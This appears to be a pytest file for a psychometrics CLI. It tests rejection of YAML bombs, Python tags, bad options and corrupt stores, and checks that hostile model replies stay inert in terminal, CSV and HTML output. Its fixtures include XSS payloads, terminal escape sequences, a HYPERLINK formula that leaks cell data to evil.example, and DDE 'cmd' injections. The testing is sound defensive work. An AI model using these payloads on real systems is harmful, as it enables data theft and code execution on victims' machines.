"""Hostile and malformed input: persona files, design files and command-line options.

Every file in ``tests/data/hostile/personas/`` and ``tests/data/hostile/designs/`` starts with
``# expect: TEXT``, the part of the error that identifies its problem. Through the command line each
case must exit with code 2 and print exactly one line on stderr, ``psytest: error: ...``, naming the
file (or option) at fault, with no traceback. YAML bombs, self-referencing aliases, Python tags, deep
nesting, non-UTF-8 bytes and oversized files are among them.
"""

from __future__ import annotations

import json
import os
import sqlite3
from contextlib import closing
import subprocess
import sys
from pathlib import Path

import pytest

from psychometrics.testing.cli import cli
from psychometrics.errors import PsytestError, printable
from psychometrics.design.personas import load_persona_set
from psychometrics.yaml_io import MAX_BYTES, MAX_VALUES, expanded_size, parse_yaml

HOSTILE = Path(__file__).parent / "data" / "hostile"
PERSONA_FILES = sorted((HOSTILE / "personas").glob("*.yaml"))
DESIGN_FILES = sorted((HOSTILE / "designs").glob("*.yaml"))
PWNED = Path("/tmp/psytest-pwned")


def expected(path: Path) -> str:
    first = path.read_bytes().split(b"\n", 1)[0].decode("utf-8")
    assert first.startswith("# expect: "), path
    return first.removeprefix("# expect: ")


def assert_one_line_error(code: int, err: str, *needles: str) -> str:
    assert code == 2, err
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("psytest: error: ") and "Traceback" not in err
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


# -- the corpora ------------------------------------------------------------------------------------


def test_corpora_are_large_and_every_case_is_distinct():
    for files in (PERSONA_FILES, DESIGN_FILES):
        assert len(files) >= 25
        messages = [expected(p) for p in files]
        assert len(set(messages)) == len(messages)


@pytest.mark.parametrize("path", PERSONA_FILES, ids=lambda p: p.stem)
def test_malformed_persona_file_is_one_line_naming_the_file(path, capsys):
    with pytest.raises(PsytestError) as caught:
        load_persona_set(path)
    assert str(caught.value).startswith(str(path)) and expected(path) in str(caught.value)
    code, _, err = cli(capsys, "personas", "show", str(path))
    assert_one_line_error(code, err, str(path), expected(path))
    code, _, err = cli(capsys, "administer", "--model", "sim", "--personas", str(path), "--dry-run")
    assert_one_line_error(code, err, str(path), expected(path))


@pytest.mark.parametrize("path", DESIGN_FILES, ids=lambda p: p.stem)
def test_malformed_design_file_is_one_line_before_anything_is_planned(path, capsys, tmp_path):
    out = tmp_path / "run"
    code, _, err = cli(capsys, "administer", "--model", "sim", "-i", "mini-ipip", "--design", str(path),
                       "--out", str(out))
    line = assert_one_line_error(code, err, expected(path))
    # the file is named, except where the problem is the whole design (its size) or a file it names
    assert str(path) in line or line.startswith(("psytest: error: design: ", "psytest: error: --personas "))
    assert not out.exists()  # refused before the run directory was made


def test_python_tags_run_nothing():
    PWNED.unlink(missing_ok=True)
    for path in [*PERSONA_FILES, *DESIGN_FILES]:
        if "python" in path.name:
            with pytest.raises(PsytestError, match="could not determine a constructor"):
                parse_yaml(path.read_text(encoding="utf-8"), str(path))
    assert not PWNED.exists()


# -- YAML bounds ------------------------------------------------------------------------------------


def test_alias_expansion_is_measured_without_expanding():
    laughs = "a: &a [" + ", ".join(["x"] * 10) + "]\n"
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        laughs += f"{level}: &{level} [" + ", ".join([f"*{previous}"] * 10) + "]\n"
    with pytest.raises(PsytestError, match="expand to more than 1,000,000 values"):
        parse_yaml(laughs, "bomb.yaml")  # 10**9 values if expanded; refused at once
    shared = parse_yaml("a: &a [1, 2, 3]\nb: [*a, *a]\n", "ok.yaml")  # ordinary anchors still work
    assert shared == {"a": [1, 2, 3], "b": [[1, 2, 3], [1, 2, 3]]}
    # the mapping, its 2 keys, list a (1 + 3 values), list b (1 + a counted twice): shared parts count each use
    assert expanded_size(shared) == 1 + 2 + 4 + (1 + 2 * 4)
    assert expanded_size(list(range(MAX_VALUES + 10))) > MAX_VALUES


def test_oversized_and_endless_files_are_refused_without_reading_them_whole(tmp_path, capsys):
    big = tmp_path / "big-personas.yaml"
    big.write_text("id: big\nname: Big\npersonas:\n" + "  - {id: p, text: " + "x" * MAX_BYTES + "}\n")
    code, _, err = cli(capsys, "personas", "show", str(big))
    assert_one_line_error(code, err, str(big), f"larger than the {MAX_BYTES:,} bytes")
    # /dev/zero never ends: reading it whole would never return (the subprocess timeout is the guard)
    result = subprocess.run([sys.executable, "-m", "psychometrics", "administer", "--model", "sim", "--design",
                             "/dev/zero", "--dry-run"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 2 and result.stderr.strip() == (
        f"psytest: error: /dev/zero: larger than the {MAX_BYTES:,} bytes a YAML file may have; split it or trim it")


def test_absurd_design_is_refused_before_planning_even_in_a_dry_run(capsys):
    code, out, err = cli(capsys, "administer", "--model", "sim", "-i", "ipip-neo-300", "--samples", "10000",
                         "--option-orders", "rotations,latin-square", "--templates", "numbered,lettered,worded",
                         "--personas", "neutral-biographies", "--mode", "both", "--dry-run")
    line = assert_one_line_error(code, err, "requests planned, more than the 2,000,000 one run holds")
    count = int(line.split("design: ")[1].split(" requests")[0].replace(",", ""))
    assert count == 300 * 10_000 * (5 + 10) * 3 * 40 * 2  # items x samples x orders x templates x personas x modes
    assert out == ""


# -- command-line options ---------------------------------------------------------------------------

DRY = ("--dry-run",)
OPTION_CASES = [
    (("administer", "--model", "", *DRY), "--model : unknown model kind"),
    (("administer", "--model", "bogus", *DRY), "--model bogus: unknown model kind"),
    (("administer", "--model", "sim/e=abc", *DRY), "--model sim/e=abc: e must be a number"),
    (("administer", "--model", "sim/e", *DRY), "expected key=value pairs"),
    (("administer", "--model", "sim/e=99", *DRY), "must be between -6 and 6"),
    (("administer", "--model", "gguf:/no/such/model.gguf", *DRY), "no such GGUF file"),
    (("administer", "--model", "local/nope", *DRY), "--model local/nope: unknown embedded model"),
    (("administer", "--model", "openai/x y", *DRY), "--model openai/x y: unknown model kind"),
    (("administer", "--model", "router:/no/such/cluster.yaml", *DRY), "/no/such/cluster.yaml: no such file"),
    (("administer", "--model", "openai/m", "--api-base", "not a url", *DRY), "--api-base not a url: give the server's"),
    (("administer", "--model", "anthropic/m", "--api-base", "ftp://host/v1", *DRY), "--api-base ftp://host/v1"),
    (("administer", "--model", "openai/m", "--api-base", "http://h:99999/v1", *DRY), "--api-base"),
    (("administer", "--model", "sim", "--api-base", "http://127.0.0.1:8000/v1", *DRY), "--model sim does not use it"),
    (("administer", "--model", "sim", "--concurrency", "0", *DRY), "'--concurrency'"),
    (("administer", "--model", "sim", "--concurrency", "many", *DRY), "'--concurrency'"),
    (("administer", "--model", "sim", "--concurrency", "100000", *DRY), "'--concurrency'"),
    (("administer", "--model", "sim", "--timeout", "0", *DRY), "'--timeout'"),
    (("administer", "--model", "sim", "--timeout", "nan", *DRY), "'--timeout'"),
    (("administer", "--model", "sim", "--max-retries", "-1", *DRY), "'--max-retries'"),
    (("administer", "--model", "sim", "--samples", "0", *DRY), "samples: Input should be greater than or equal to 1"),
    (("administer", "--model", "sim", "--temperature", "nan", *DRY), "temperature"),
    (("administer", "--model", "sim", "--seed", "-1", *DRY), "seed"),
    (("administer", "--model", "sim", "--mode", "all", *DRY), "modes.0: Input should be 'text' or 'probs'"),
    (("administer", "--model", "sim", "--option-orders", "random:0", *DRY), "unknown option order 'random:0'"),
    (("administer", "--model", "sim", "--templates", "numbered,chatty", *DRY), "unknown template 'chatty'"),
    (("administer", "--model", "sim", "--inventory", "no/such/inventory.yaml", *DRY), "no/such/inventory.yaml"),
    (("administer", "--model", "sim", "-i", "mini-ipip", "-i", "mini-ipip", *DRY), "the same inventory is given twice"),
    (("administer", "--model", "sim", "--design", "no/such/design.yaml", *DRY), "no/such/design.yaml: no such file"),
    (("administer", "--model", "sim", "--personas", "no/such/personas.yaml", *DRY), "no/such/personas.yaml: no such file"),
    (("administer", "--model", "sim", "--personas", "villains", *DRY), "--personas villains: unknown persona set"),
    (("administer", "--model", "sim", "--persona-ids", "calm", *DRY), "persona_ids needs personas"),
    (("administer", "--model", "sim", "--personas", "trait-shaping", "--persona-ids", "nobody", *DRY),
     "--persona-ids: nobody not in persona set"),
    (("administer", "--model", "sim", "--items-per-request", "3", "--mode", "probs", *DRY),
     "probability mode scores one item per request"),
    (("administer", "--model", "sim", "--item-orders", "2", *DRY), "item_orders only matters"),
    (("administer", "--model", "sim", "--invalid", "reask:100", *DRY), "invalid: must be missing, drop or reask:N"),
    (("administer", "--model", "sim", "--frobnicate", *DRY), "No such option: --frobnicate"),
    (("score", "no/such/run"), "no/such/run: no such run directory"),
    (("report", "no/such/run"), "no/such/run: no such run directory"),
    (("compare", "no/such/run"), "compare needs at least two run directories"),
    (("reproduce", "no/such/run"), "no/such/run: no such run directory"),
    (("check", "no/such/run", "--baseline", "no/such/baseline.json"), "--baseline no/such/baseline.json: no such file"),
    (("analyze", "data.csv"), "give exactly one of --keys KEYS.yaml or --inventory NAME"),
    (("analyze", "data.csv", "--keys", "k.yaml", "--inventory", "bfi-44"), "give exactly one of --keys"),
]


@pytest.mark.parametrize("args, needle", OPTION_CASES, ids=lambda v: " ".join(v) if isinstance(v, tuple) else None)
def test_bad_option_is_one_line_exit_2(args, needle, capsys):
    code, _, err = cli(capsys, *args)
    assert_one_line_error(code, err, needle)


def test_unwritable_out_is_one_line(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory\n")
    code, _, err = cli(capsys, "administer", "--model", "sim", "--out", str(blocker / "run"))
    assert_one_line_error(code, err, str(blocker / "run"), "Not a directory")
    code, _, err = cli(capsys, "administer", "--model", "sim", "--out", str(blocker))
    assert_one_line_error(code, err, str(blocker))


def test_unwritable_score_and_report_out_are_one_line(tmp_path, capsys):
    run = tmp_path / "run"
    code, _, err = cli(capsys, "administer", "--model", "sim/e=1,seed=2", "--out", str(run), "--json")
    assert code == 0, err
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    for command in ("score", "report"):
        code, _, err = cli(capsys, command, str(run), "--out", str(blocker / "tables"))
        assert_one_line_error(code, err, str(blocker / "tables"), "Not a directory")
    code, _, err = cli(capsys, "compare", str(run), str(run), "--out", str(blocker / "cmp"))
    assert_one_line_error(code, err, str(blocker / "cmp"))


def test_control_characters_in_an_option_are_shown_escaped(capsys):
    code, _, err = cli(capsys, "administer", "--model", "bogus\x1b[31m\u202e", "--dry-run")
    line = assert_one_line_error(code, err, "--model bogus\\x1b[31m\\u202e: unknown model kind")
    assert "\x1b" not in line and "\u202e" not in line
    assert printable("tab\tand\x07bell") == "tab\tand\\x07bell"


def test_real_process_has_no_traceback_for_a_yaml_bomb():
    path = HOSTILE / "personas" / "15-billion-laughs.yaml"
    result = subprocess.run([sys.executable, "-m", "psychometrics", "administer", "--model", "sim", "--personas",
                             str(path), "--dry-run"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr == f"psytest: error: {path}: its aliases expand to more than 1,000,000 values; " \
                            "write the values out instead of nesting aliases\n"


# -- model replies with markup are inert in every output --------------------------------------------

CHROMIUM = Path("/usr/bin/chromium")
HOSTILE_REPLIES = (
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<a href=\"javascript:document.title='pwned'\">3</a>",
    "[bold red]3[/bold red] [link=https://evil.example]x[/link] [/nothing]",
    "\x1b[31m4\x1b[0m\x1b]0;pwned-title\x07",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"5\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
)
# A directory name that is rich markup (an unmatched closing tag makes rich raise) and HTML
MARKUP_DIR = ("[bold]", "[/bold][/red]<img src=x onerror=alert(1)>")


class HostileReplies:
    """A backend whose replies cycle through HOSTILE_REPLIES, each used equally often."""

    def __new__(cls):
        from psychometrics.models.base import ModelBackend, ModelReply

        class _Backend(ModelBackend):
            name = "hostile/replies"

            def __init__(self):
                self.count = 0

            async def complete(self, request):
                self.count += 1
                return ModelReply(text=HOSTILE_REPLIES[self.count % len(HOSTILE_REPLIES)], input_tokens=1,
                                  output_tokens=1)

        return _Backend()


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory):
    """Two runs through the command line against a loopback server that sends HOSTILE_REPLIES."""
    from psychometrics.testing.openai_server import start_server

    root = tmp_path_factory.mktemp("markup")
    runs = [root.joinpath(*MARKUP_DIR, f"run{i}") for i in (1, 2)]
    outputs = []
    with start_server(HostileReplies()) as server:
        for seed, run in enumerate(runs):
            result = subprocess.run(
                [sys.executable, "-m", "psychometrics", "administer", "--model", "openai/hostile", "--api-base",
                 server.base_url, "-i", "mini-ipip", "--samples", "2", "--temperature", "1", "--seed", str(seed),
                 "--out", str(run)],
                capture_output=True, timeout=600, env={**__import__("os").environ, "FORCE_COLOR": "1",
                                                       "OPENAI_API_KEY": "none"})
            assert result.returncode == 0, result.stderr.decode()
            outputs.append(result)
    for command in (["score", str(runs[0])], ["report", str(runs[0])],
                    ["compare", str(runs[0]), str(runs[1]), "--out", str(root / "compare")]):
        result = subprocess.run([sys.executable, "-m", "psychometrics", *command], capture_output=True,
                                timeout=600, env={**__import__("os").environ, "FORCE_COLOR": "1"})
        assert result.returncode == 0, result.stderr.decode()
        outputs.append(result)
    return root, runs, outputs


def test_terminal_output_never_renders_reply_markup_or_escapes(hostile_runs):
    _, runs, outputs = hostile_runs
    text = b"".join(r.stdout + r.stderr for r in outputs)
    for reply in HOSTILE_REPLIES:
        assert reply.encode() not in text
    assert b"\x1b]0;" not in text and b"pwned" not in text and b"evil.example" not in text
    # the directory name, which is rich markup, is printed as it is (rich would raise on "[/red]")
    plain = text.decode("utf-8", "replace")
    assert "[bold]/[/bold][/red]<img src=x onerror=alert(1)>/run1" in plain


def test_every_reply_is_stored_exactly(hostile_runs):
    import sqlite3

    _, runs, _ = hostile_runs
    with closing(sqlite3.connect(runs[0] / "responses.sqlite")) as db, db:
        stored = [row[0] for row in db.execute("SELECT raw_reply FROM responses")]
    assert len(stored) == 40 and set(stored) == set(HOSTILE_REPLIES)


def test_csvs_neutralise_formulas_and_escapes_but_keep_numbers(hostile_runs):
    import pandas as pd

    _, runs, _ = hostile_runs
    report = runs[0] / "report"
    responses = pd.read_csv(report / "responses.csv", keep_default_na=False)
    shown = set(responses["raw_reply"])
    assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"5\")" in shown
    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\t=1+1"} <= shown
    assert "\\x1b[31m4\\x1b[0m\\x1b]0;pwned-title\\x07" in shown
    assert HOSTILE_REPLIES[0] in shown  # HTML is harmless in a CSV and kept as it is
    for path in [*report.glob("*.csv"), *(runs[0] / "analysis").glob("*.csv")]:
        raw = path.read_bytes()
        assert b"\x1b" not in raw and b"\x07" not in raw, path
        frame = pd.read_csv(path, keep_default_na=False, dtype=str)
        for column in frame.columns:
            bad = [v for v in frame[column] if v[:1] in ("=", "+", "@", "\t", "\r") or
                   (v.startswith("-") and not _is_number(v))]
            assert not bad, (path.name, column, bad[:3])
    assert pd.api.types.is_numeric_dtype(pd.read_csv(report / "responses.csv")["value"])
    assert pd.api.types.is_numeric_dtype(pd.read_csv(report / "score_summary.csv")["mean"])


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_report_html_shows_replies_only_as_text(hostile_runs):
    import re

    _, runs, _ = hostile_runs
    html = (runs[0] / "report" / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"<script|<[^>]*\son\w+\s*=|<[^>]*javascript:", html, re.I)
    assert all(re.fullmatch(r'<a href="#\w+">', tag) for tag in re.findall(r"<a\b[^>]*>", html))  # the page's own
    assert "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" in html
    assert "&lt;a href=&#34;javascript:document.title=&#39;pwned&#39;&#34;&gt;3&lt;/a&gt;" in html
    assert "[bold red]3[/bold red]" in html


def test_compare_outputs_escape_hostile_run_names(hostile_runs):
    import re

    root, _, _ = hostile_runs
    page = (root / "compare" / "compare.html").read_text(encoding="utf-8")
    assert not re.search(r"<img|<script|<[^>]*\son\w+\s*=", page, re.I)
    assert "[/bold][/red]&lt;img src=x onerror=alert(1)&gt;" in page
    assert (root / "compare" / "differences.csv").is_file()


def test_chromium_runs_nothing_from_the_report_or_the_comparison(hostile_runs, tmp_path):
    if not CHROMIUM.exists():
        pytest.skip("needs /usr/bin/chromium (Debian's chromium package)")
    import re

    root, runs, _ = hostile_runs
    for page, title in ((runs[0] / "report" / "report.html", "psytest report: openai/hostile"),
                        (root / "compare" / "compare.html", "psytest comparison")):
        dom = subprocess.run(
            [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-background-networking", f"--user-data-dir={tmp_path / page.stem}", "--dump-dom",
             page.resolve().as_uri()], capture_output=True, text=True, timeout=90, check=True).stdout
        assert re.search(r"<title>(.*?)</title>", dom, re.S).group(1) == title
        assert "<script" not in dom and "<img src=\"x\"" not in dom and "pwned" not in title


def test_merge_keys_may_be_overridden_but_written_keys_may_not_repeat():
    assert parse_yaml("a: &d {x: 1, y: 2}\nb: {<<: *d, x: 3}\n", "ok.yaml") == {
        "a": {"x": 1, "y": 2}, "b": {"x": 3, "y": 2}}
    with pytest.raises(PsytestError, match="duplicate key 'x'"):
        parse_yaml("b: {<<: {y: 1}, x: 1, x: 3}\n", "bad.yaml")


def test_merge_expansion_is_counted_with_every_repeat_whatever_pyyaml_does():
    import yaml

    from psychometrics.yaml_io import MAX_MERGED, merged_entries

    text = "l0: &l0 {a: 1, b: 2}\n" + "".join(f"l{i}: &l{i} {{<<: [*l{i-1}, *l{i-1}], m{i}: {i}}}\n" for i in range(1, 6))
    top = yaml.compose(text, Loader=yaml.SafeLoader).value[-1][1]  # l5, before any flattening
    assert merged_entries(top, {}) == 2 * 2**5 + (2**5 - 1)  # l0's 2 entries 32 times, one m per level
    assert parse_yaml(text, "ok.yaml")["l5"] == {"a": 1, "b": 2, "m1": 1, "m2": 2, "m3": 3, "m4": 4, "m5": 5}
    deep = "l0: &l0 {a: 1, b: 2}\n" + "".join(f"l{i}: &l{i} {{<<: [*l{i-1}, *l{i-1}]}}\n" for i in range(1, 17))
    assert merged_entries(yaml.compose(deep, Loader=yaml.SafeLoader).value[-1][1], {}) == 2**17 > MAX_MERGED
    with pytest.raises(PsytestError, match=r"merge keys \('<<'\) bring in more than 100,000 entries"):
        parse_yaml(deep, "merge-bomb.yaml")


def test_escaped_surrogate_pairs_are_joined_and_lone_ones_refused():
    assert parse_yaml('a: "3 \\ud83d\\ude00"\nb: [&x "\\ud83d\\ude00", *x]\n', "ok.yaml") == {
        "a": "3 \U0001F600", "b": ["\U0001F600", "\U0001F600"]}
    with pytest.raises(PsytestError, match="bad.yaml: text with an unpaired surrogate escape"):
        parse_yaml('a: "3 \\ud83d"\n', "bad.yaml")


# -- replies cut inside a surrogate pair, through real HTTP -----------------------------------------


class HalfEmoji:
    """A simulated respondent behind the loopback server whose every second reply ends in half an emoji
    pair (JSON "\\ud83d", as gateways that cut text send), and whose every seventh call fails with one."""

    def __new__(cls, sim):
        from psychometrics.models.base import ModelBackend

        class _Backend(ModelBackend):
            name = "half-emoji"

            def __init__(self):
                self.count = 0

            async def complete(self, request):
                self.count += 1
                if self.count % 7 == 0:
                    raise RuntimeError("cut at \ud83d")  # the server's 500 then carries it too
                reply = await sim.complete(request)
                if self.count % 2 == 0:
                    reply.text = (reply.text or "") + " \ud83d"
                return reply

            async def aclose(self):
                await sim.aclose()

        return _Backend()


@pytest.mark.parametrize("backend_kind", ["aiohttp", "litellm"])
def test_half_an_emoji_is_stored_safely_and_nothing_is_lost(tmp_path, backend_kind, monkeypatch):
    from psychometrics.engine.pool import RetryPolicy
    from psychometrics.design.plan import Design
    from psychometrics.inventories.library import resolve_inventory
    from psychometrics.models.simulated import SimulatedRespondent
    from psychometrics.run.directory import administer
    from psychometrics.run.store import RunStore
    from psychometrics.testing.openai_server import start_server

    if backend_kind == "litellm":
        pytest.importorskip("litellm")
        from psychometrics.models.litellm_backend import LiteLLMBackend as make
    else:
        from psychometrics.models.openai_http import OpenAIHTTPBackend as make
    monkeypatch.setenv("OPENAI_API_KEY", "none")
    inventory = resolve_inventory("bfi-44")
    with start_server(HalfEmoji(SimulatedRespondent("sim/e=1,seed=1"))) as server:
        result = administer(make("openai/psytest-sim", api_base=server.base_url), [inventory], Design(),
                            tmp_path / "run", concurrency=8, retry=RetryPolicy(max_retries=0))
        with RunStore(tmp_path / "run" / "responses.sqlite") as store:
            rows = list(store.rows())
        assert len(rows) == 44 and result.stats.sent == 44  # every worker's answer committed
        cut = [r for r in rows if r.raw_reply and r.raw_reply.endswith(" \ufffd")]
        failed = [r for r in rows if r.error is not None]
        assert cut and all(r.outcome == "valid" for r in cut)  # "3 \ufffd" still reads as 3
        assert failed and result.stats.failed == len(failed)
        cut_errors = [r for r in failed if "RuntimeError" in r.error]
        assert cut_errors and all("cut at \ufffd" in r.error for r in cut_errors)  # made storable too
        assert all(r.outcome == "valid" for r in rows if r.error is None)
        again = administer(make("openai/psytest-sim", api_base=server.base_url), [inventory], Design(),
                           tmp_path / "run", concurrency=8, retry=RetryPolicy(max_retries=0))
    assert again.stats.already_answered == 44 - len(failed) and again.stats.sent == len(failed)


def test_behave_stores_half_an_emoji_safely(tmp_path, capsys):
    from psychometrics.behavior.task import resolve_tasks
    from psychometrics.models.simulated import SimulatedRespondent
    from psychometrics.testing.openai_server import start_server

    sim = SimulatedRespondent("sim/e=1,seed=1")
    sim.prepare_tasks(resolve_tasks("agreeableness"))
    out = tmp_path / "b"
    args = ("behave", "--model", "openai/psytest-sim", "--tasks", "agreeableness", "--variants", "3",
            "--max-retries", "0", "--out", str(out), "--json")
    with start_server(HalfEmoji(sim)) as server:
        code, stdout, err = cli(capsys, *args, "--api-base", server.base_url)
        first = json.loads(stdout)
        assert code == (1 if first["failed"] else 0) and "Traceback" not in err
        with closing(sqlite3.connect(out / "behavior.sqlite")) as db, db:
            replies = [r[0] for r in db.execute("SELECT reply FROM turns")]
            errors = [r[0] for r in db.execute("SELECT error FROM conversations WHERE error IS NOT NULL")]
        assert any(r.endswith(" \ufffd") for r in replies)
        assert all("cut at \ufffd" in e for e in errors if "RuntimeError" in e)
        assert len(errors) == first["failed"] > 0
        code, stdout, err = cli(capsys, *args, "--api-base", server.base_url)  # resumes, sends only the failed
    second = json.loads(stdout)
    assert second["already_answered"] == first["sent"] - first["failed"]


# -- unreadable stores ------------------------------------------------------------------------------


@pytest.fixture
def small_run(tmp_path, capsys):
    run = tmp_path / "run"
    code, _, err = cli(capsys, "administer", "--model", "sim/e=1,seed=2", "--out", str(run), "--json")
    assert code == 0, err
    return run


def _spoil(store: Path, content: bytes) -> None:
    for suffix in ("-wal", "-shm"):
        Path(f"{store}{suffix}").unlink(missing_ok=True)
    store.write_bytes(content)


@pytest.mark.parametrize("content, needle", [
    (b"this is not a database\n" * 200, "not a readable SQLite database (corrupt, or not a psytest store)"),
    (b"", "not a psytest store"),  # an empty file is an empty SQLite database: no responses table
])
def test_an_unreadable_store_is_one_line_in_every_command(small_run, capsys, tmp_path, content, needle):
    store = small_run / "responses.sqlite"
    _spoil(store, content)
    for args in (["score", str(small_run)], ["report", str(small_run)], ["reproduce", str(small_run)],
                 ["compare", str(small_run), str(small_run)], ["baseline", str(small_run), "--out", str(tmp_path / "b.json")]):
        code, _, err = cli(capsys, *args)
        assert_one_line_error(code, err, str(store), needle)
        assert store.read_bytes() == content  # read-only commands never change (or create) it
    code, _, err = cli(capsys, "export", str(small_run), "--csv", str(tmp_path / "x.csv"))
    assert_one_line_error(code, err, str(store), needle)
    assert not list(tmp_path.glob("x.csv*"))  # no partial file left behind
    if content:
        code, _, err = cli(capsys, "administer", "--model", "sim/e=1,seed=2", "--out", str(small_run))
        assert_one_line_error(code, err, str(store), needle)


def test_a_read_only_command_never_creates_a_store(small_run, capsys):
    store = small_run / "responses.sqlite"
    for suffix in ("", "-wal", "-shm"):
        Path(f"{store}{suffix}").unlink(missing_ok=True)
    code, _, err = cli(capsys, "score", str(small_run))
    assert_one_line_error(code, err, f"{store}: no such store")
    assert not store.exists()


def test_a_corrupt_behaviour_store_is_one_line(tmp_path, capsys):
    out = tmp_path / "b"
    args = ("behave", "--model", "sim/seed=2", "--tasks", "dictator-game", "--variants", "1", "--out", str(out))
    code, _, err = cli(capsys, *args, "--json")
    assert code == 0, err
    _spoil(out / "behavior.sqlite", b"garbage" * 500)
    code, _, err = cli(capsys, *args)
    assert_one_line_error(code, err, str(out / "behavior.sqlite"), "not a readable SQLite database")
    code, _, err = cli(capsys, "administer", "--model", "sim/seed=2", "--out", str(tmp_path / "q"), "--json")
    assert code == 0, err
    code, _, err = cli(capsys, "validity", "-s", str(tmp_path / "q"), "-b", str(out), "--out", str(tmp_path / "v"))
    assert_one_line_error(code, err, str(out / "behavior.sqlite"), "not a readable SQLite database")
    code, _, err = cli(capsys, "report", str(tmp_path / "q"), "--behavior", str(out), "--out", str(tmp_path / "r"))
    assert_one_line_error(code, err, str(out / "behavior.sqlite"), "not a readable SQLite database")


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write to read-only files")
def test_a_read_only_store_is_read_by_score_and_refused_by_administer_in_one_line(small_run, capsys):
    store = small_run / "responses.sqlite"
    store.chmod(0o444)
    try:
        code, _, err = cli(capsys, "score", str(small_run), "--out", str(small_run / "tables"))
        assert code == 0, err
        code, _, err = cli(capsys, "administer", "--model", "sim/e=1,seed=2", "--out", str(small_run))
        assert_one_line_error(code, err, str(store), "read-only")
    finally:
        store.chmod(0o644)


# -- behaviour and validity outputs are inert too -----------------------------------------------------

HOSTILE_DIR = "=1+2 [bold red]x <img src=x onerror=alert(1)>"  # a formula, rich markup and HTML (no "/")


class SometimesHostile:
    """A simulated respondent behind the loopback server whose every third reply is a HOSTILE_REPLIES one."""

    def __new__(cls, sim):
        from psychometrics.models.base import ModelBackend, ModelReply

        class _Backend(ModelBackend):
            name = "sometimes-hostile"

            def __init__(self):
                self.count = 0

            async def complete(self, request):
                self.count += 1
                if self.count % 3 == 0:
                    return ModelReply(text=HOSTILE_REPLIES[self.count % len(HOSTILE_REPLIES)])
                return await sim.complete(request)

        return _Backend()


@pytest.fixture(scope="module")
def hostile_behaviour(tmp_path_factory):
    """A questionnaire and a behaviour run with personas, in directories whose names are a formula, rich
    markup and HTML, against a server that sends HOSTILE_REPLIES; then validity and report --behavior."""
    from psychometrics.behavior.task import resolve_tasks
    from psychometrics.inventories.library import resolve_inventory
    from psychometrics.models.simulated import SimulatedRespondent
    from psychometrics.design.personas import resolve_persona_set
    from psychometrics.testing.openai_server import start_server

    root = tmp_path_factory.mktemp("markup-behaviour")
    (root / HOSTILE_DIR).mkdir()
    env = {**os.environ, "FORCE_COLOR": "1", "OPENAI_API_KEY": "none"}
    sim = SimulatedRespondent("sim/seed=3,behavior_link=0.8")
    sim.prepare([resolve_inventory("mini-ipip")], resolve_persona_set("trait-shaping"))
    sim.prepare_tasks(resolve_tasks("agreeableness,extraversion"))
    q, b = f"{HOSTILE_DIR}/q", f"{HOSTILE_DIR}/b"  # relative: the "runs" cell starts with "="
    outputs = []

    def psytest(*args):
        result = subprocess.run([sys.executable, "-m", "psychometrics", *args], capture_output=True, timeout=600,
                                env=env, cwd=root)
        assert result.returncode == 0, result.stderr.decode()
        outputs.append(result)

    with start_server(SometimesHostile(sim)) as server:
        common = ("--model", "openai/psytest-sim", "--api-base", server.base_url, "--personas", "trait-shaping")
        psytest("administer", *common, "-i", "mini-ipip", "--out", q)
        psytest("behave", *common, "--tasks", "agreeableness,extraversion", "--variants", "2", "--out", b)
    psytest("validity", "-s", q, "-b", b, "--out", "v", "--bootstrap", "100")
    psytest("report", q, "--behavior", b, "--out", "r")
    return root, outputs


def test_behaviour_and_validity_terminal_output_is_inert(hostile_behaviour):
    _, outputs = hostile_behaviour
    text = b"".join(r.stdout + r.stderr for r in outputs)
    assert b"\x1b]0;" not in text and b"pwned" not in text and b"evil.example" not in text
    plain = text.decode("utf-8", "replace")
    assert f"{HOSTILE_DIR}/b" in plain  # printed as written: rich markup would have eaten "[bold red]"


def _unsafe_cells(path: Path) -> list:
    import pandas as pd

    raw = path.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw, path
    frame = pd.read_csv(path, keep_default_na=False, dtype=str)
    return [(column, v) for column in frame.columns for v in frame[column]
            if v[:1] in ("=", "+", "@", "\t", "\r") or (v.startswith("-") and not _is_number(v))]


def test_behaviour_and_validity_csvs_are_spreadsheet_safe(hostile_behaviour):
    root, _ = hostile_behaviour
    paths = [p for folder in (f"{HOSTILE_DIR}/b/analysis", "v", "r") for p in (root / folder).glob("*.csv")
             if p.name != "run_info.csv"]
    assert len(paths) >= 10
    for path in paths:
        assert not _unsafe_cells(path), path


def test_validity_run_info_csv_is_spreadsheet_safe(hostile_behaviour):
    root, _ = hostile_behaviour
    assert not _unsafe_cells(root / "v" / "run_info.csv")


def test_validity_and_behaviour_report_html_show_names_only_as_text(hostile_behaviour):
    import re

    root, _ = hostile_behaviour
    for page in (root / "v" / "validity.html", root / "r" / "report.html"):
        html = page.read_text(encoding="utf-8")
        # the page's own figures are data: images; nothing else may be an image, a script or a handler
        assert not re.search(r'<img(?! src="data:image/png;base64,)|<script|<[^>]*\son\w+\s*=|<[^>]*javascript:',
                             html, re.I), page
    assert "&lt;img src=x onerror=alert(1)&gt;" in (root / "v" / "validity.html").read_text(encoding="utf-8")
